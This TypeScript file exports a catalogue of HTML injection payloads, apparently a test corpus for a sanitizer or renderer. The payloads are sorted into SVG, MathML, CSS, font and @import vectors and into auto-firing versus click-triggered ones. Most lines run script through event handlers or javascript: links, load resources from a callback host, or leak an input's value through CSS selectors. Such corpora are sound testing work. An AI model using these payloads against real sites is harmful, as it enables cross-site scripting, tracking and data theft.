import { byHand, byItself, type Payload } from './payload'

const SVG = 'width=90 height=90'

/** Drawings, formulas, style sheets and letters. */
export const drawing: Payload[] = [
  ...byItself('svg', [
    '<svg onload=%J%></svg>',
    '<svg><script>%J%</script></svg>',
    '<svg><script href="%U%/drawn.js"></script></svg>',
    '<svg><set attributeName=x to=1 onbegin=%J%></set></svg>',
    '<svg><animate attributeName=x dur=1ms onend=%J% onrepeat=%J%></animate></svg>',
    `<svg ${SVG}><image href="%U%/image.png" width=9 height=9></image></svg>`,
    `<svg ${SVG}><image xlink:href="%U%/old.png" width=9 height=9></image></svg>`,
    `<svg ${SVG}><use href="%U%/use.svg#a"></use></svg>`,
    `<svg ${SVG}><filter id=f><feImage href="%U%/fe.png"></feImage></filter><rect ${SVG} filter="url(#f)"/></svg>`,
    `<svg ${SVG}><rect ${SVG} fill="url(%U%/fill.svg#a)" mask="url(%U%/mask.svg#m)"/></svg>`,
    '<svg><style>@import "%U%/drawn.css";</style></svg>',
    `<svg ${SVG}><foreignObject ${SVG}><img src=x onerror=%J%></foreignObject></svg>`,
    '<svg><foreignObject><iframe srcdoc="<script>%J%</script>"></iframe></foreignObject></svg>',
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='%J%'><image href='%U%/inner.png'/></svg>\">",
  ]),
  ...byHand('svg', [
    `<svg ${SVG}><a href="javascript:%J%"><rect ${SVG}></rect></a></svg>`,
    `<svg ${SVG}><a xlink:href="%U%/followed"><rect ${SVG}></rect></a></svg>`,
    `<svg ${SVG}><a><animate attributeName=href to="javascript:%J%" fill=freeze begin=0s></animate><rect ${SVG}></rect></a></svg>`,
  ]),
  ...byItself('mathml', [
    '<math><script>%J%</script></math>',
    '<math><mtext><img src=x onerror=%J%></mtext></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=%J%></annotation-xml></math>',
    '<math><mi style="background:url(%U%/mi.png)">x</mi></math>',
    '<math><mglyph src="%U%/glyph.png"></mglyph><semantics><annotation src="%U%/note"></annotation></semantics></math>',
  ]),
  ...byHand('mathml', [
    '<math href="javascript:%J%"><mi>press</mi></math>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:%J%"><mi>press</mi></maction></math>',
    '<math><mtext><a href="javascript:%J%">press</a></mtext></math>',
  ]),
  ...byItself('css', [
    '<p style="background:url(%U%/p.png)">p</p>',
    '<p style="background-image:image-set(url(%U%/set.png) 1x)">p</p>',
    '<p style="list-style:url(%U%/list.png);display:list-item">p</p>',
    '<p style="border-image:url(%U%/border.png) 1;border:1px solid">p</p>',
    '<p style="mask:url(%U%/mask.png);-webkit-mask-image:url(%U%/mask2.png)">p</p>',
    '<p style="cursor:url(%U%/hand.cur),auto">p</p>',
    '<p style="--u:url(%U%/own.png);background:var(--u)">p</p>',
    '<p style="\\62 ackground:u\\72l(%U%/escaped.png)">p</p>',
    '<style>p::before{content:url(%U%/before.png)}</style><p>p</p>',
    '<style>input[value^=s]{background:url(%U%/leak)}</style><input value=secret>',
    '<style>:root:has(p){background:url(%U%/root.png)}</style><p>p</p>',
    '<style>@media all{@supports (color:red){p{background:url(%U%/nested.png)}}}</style><p>p</p>',
    '<table background="%U%/table.png"><tr><td background="%U%/cell.png">c</td></tr></table>',
    '<body background="%U%/body.png">',
    '<p style="position:fixed;inset:0;z-index:9;background:red;width:expression(%J%);behavior:url(%U%/b.htc)">p</p>',
    '<link rel=stylesheet href="%U%/sheet.css">',
  ]),
  ...byItself('font', [
    '<style>@font-face{font-family:f;src:url(%U%/f.woff2)}.f{font-family:f}</style><p class=f>letters</p>',
    '<style>@font-face{font-family:g;src:local(none),url(//%H%/g.ttf)}.g{font:1em g}</style><p class=g>letters</p>',
    '<link rel=preload as=font crossorigin href="%U%/pre.woff2">',
    '<svg><style>@font-face{font-family:h;src:url(%U%/h.otf)}text{font-family:h}</style><text y=9>h</text></svg>',
  ]),
  ...byItself('import', [
    '<style>@import "%U%/a.css";</style>',
    '<style>@import url(//%H%/b.css) screen;</style>',
    '<style>@\\69mport url("%U%/c.css") layer(l);</style>',
    '<link rel=stylesheet href="data:text/css,@import url(%U%/d.css)">',
    '<style>@charset "utf-8"; @import url(%U%/e.css) supports(display:grid);</style>',
  ]),
]
